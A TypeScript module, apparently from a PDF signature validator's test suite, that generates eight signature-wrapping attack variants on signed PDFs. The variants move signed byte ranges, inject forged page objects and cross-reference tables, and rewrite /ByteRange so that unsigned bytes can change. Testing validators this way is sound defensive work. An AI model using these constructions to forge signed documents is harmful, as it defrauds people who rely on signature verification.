import { bodyOf } from '../fixtures/pdf/update-file.ts';
import { type AttackClass, lastStartxref, overwritten, partsOf } from './attack.ts';
import { at, forgedPage, streamObject } from './letter.ts';

type Wrap = {
  /** Text between the signature value and what the attacker injects. */
  readonly behindValue?: (delta: number, file: Buffer) => string;
  readonly objects?: (file: Buffer, delta: number) => Record<number, string>;
  /** Bytes between the injected text and the moved second part. */
  readonly padding?: string;
};

/**
 * Widens the gap: the second signed part moves back by `delta`, and objects with a cross-reference of their own take the
 * place where the old cross-reference lay, so that the signed `startxref` names the attacker's.
 */
function wrapped(file: Buffer, wrap: Wrap): Buffer {
  const { b, c } = partsOf(file);
  const startxref = lastStartxref(file);
  const delta = 60_000;
  const objects = { [at.content1]: streamObject('', forgedPage), ...wrap.objects?.(file, delta) };
  let injected = `${wrap.behindValue?.(delta, file) ?? ''}\n`;
  injected = injected.padEnd(startxref - b, wrap.padding ?? ' ');
  if (injected.length > startxref - b) throw new Error('no room before the cross-reference');
  const kept = [...tableEntries(file, startxref)].filter(([num]) => !(num in objects));
  const rowsLength = 60 + (kept.length + Object.keys(objects).length) * 40;
  let body = '\n';
  let rows = '';
  for (const [num, offset] of kept) {
    rows += `${num} 1\n${String(offset >= b ? offset + delta : offset).padStart(10, '0')} 00000 n \n`;
  }
  for (const [num, object] of Object.entries(objects)) {
    const offset = startxref + rowsLength + 200 + body.length;
    rows += `${num} 1\n${String(offset).padStart(10, '0')} 00000 n \n`;
    body += `${num} 0 obj\n${object}\nendobj\n`;
  }
  const previous = /\/Prev (\d+)/.exec(file.toString('latin1', startxref))![1];
  const table = `xref\n${rows}trailer\n<</Size 60/Root 1 0 R/Info 18 0 R/Prev ${previous}>>\n`;
  injected += table.padEnd(rowsLength + 200) + body;
  if (injected.length > delta) throw new Error('the moved part lies too near');
  injected = injected.padEnd(delta, wrap.padding ?? ' ');
  return Buffer.concat([file.subarray(0, b), Buffer.from(injected, 'latin1'), file.subarray(b, b + c)]);
}

function tableEntries(file: Buffer, startxref: number): ReadonlyMap<number, number> {
  const entries = new Map<number, number>();
  const [, table = ''] = /^xref\n([\s\S]*?)trailer/.exec(file.toString('latin1', startxref)) ?? [];
  let num = 0;
  for (const line of table.split('\n')) {
    const [first, , use] = line.trim().split(' ');
    if (use === undefined) num = Number(first);
    else entries.set(num++, Number(first));
  }
  return entries;
}

function newRange(file: Buffer, delta: number): string {
  const { a, b, c } = partsOf(file);
  return `/ByteRange [0 ${a} ${b + delta} ${c}]`;
}

function signatureBody(file: Buffer): { readonly num: number; readonly body: string } {
  const num = Number([...file.toString('latin1').matchAll(/\n(\d+) 0 obj\n<<\s*\/Type ?\/Sig\b/g)].at(-1)![1]);
  return { num, body: bodyOf(file, num) };
}

/** SWA: the signed bytes are all there, but elsewhere, and the freed room belongs to the attacker. */
export const signatureWrapping: AttackClass = {
  name: 'signature wrapping (SWA)',
  attacks: [
    {
      name: 'gap widened, second /ByteRange behind the value',
      gain: 'The later of two keys counts, its gap holds other objects.',
      make: ({ signed }) => wrapped(signed, { behindValue: (delta, file) => `${newRange(file, delta)}>>\nendobj\n` }),
    },
    {
      name: 'second part moved, signature object replaced',
      gain: 'A new signature object with the old value covers the old bytes at their new place.',
      make: ({ signed }) =>
        wrapped(signed, {
          behindValue: () => '>>\nendobj\n',
          objects: (file, delta) => {
            const { num, body } = signatureBody(file);
            return { [num]: body.replace(/\/ByteRange ?\[[^\]]*\]/, newRange(file, delta)) };
          },
        }),
    },
    {
      name: 'second part moved, signature dictionary hidden behind a comment',
      gain: 'The rest of the signed dictionary becomes a comment.',
      make: ({ signed }) =>
        wrapped(signed, { behindValue: (delta, file) => `${newRange(file, delta)}>>\nendobj\n`, padding: '%' }),
    },
    {
      name: 'second part moved, padded with zeros',
      gain: 'Padding that looks like the reserve of the value hides the injected objects.',
      make: ({ signed }) =>
        wrapped(signed, {
          behindValue: () => '>>\nendobj\n',
          padding: '0',
          objects: (file, delta) => {
            const { num, body } = signatureBody(file);
            return { [num]: body.replace(/\/ByteRange ?\[[^\]]*\]/, newRange(file, delta)) };
          },
        }),
    },
    {
      name: 'second part moved, value shortened in the copy',
      gain: 'The copied value no longer fills its gap, but parses.',
      make: ({ signed }) =>
        wrapped(signed, {
          behindValue: () => '>>\nendobj\n',
          objects: (file, delta) => {
            const { num, body } = signatureBody(file);
            const short = body.replace(/0{200}>/, '>');
            return { [num]: short.replace(/\/ByteRange ?\[[^\]]*\]/, newRange(file, delta)) };
          },
        }),
    },
    {
      name: 'gap begins before the value',
      gain: "Entries before the value are in nobody's digest.",
      make: ({ signed }) => {
        const { range, a, b, c } = partsOf(signed);
        return overwritten(signed, range, `[0 ${a - 12} ${b} ${c}]`);
      },
    },
    {
      name: 'gap ends behind the value',
      gain: "Entries behind the value are in nobody's digest.",
      make: ({ signed }) => {
        const { range, a, b, c } = partsOf(signed);
        return overwritten(signed, range, `[0 ${a} ${b + 2} ${c - 2}]`);
      },
    },
    {
      name: 'second part ends before the end of the revision',
      gain: 'The trailer of the signed revision is free to change.',
      make: ({ signed }) => {
        const { range, a, b, c } = partsOf(signed);
        return overwritten(signed, range, `[0 ${a} ${b} ${c - 30}]`);
      },
    },
  ],
};
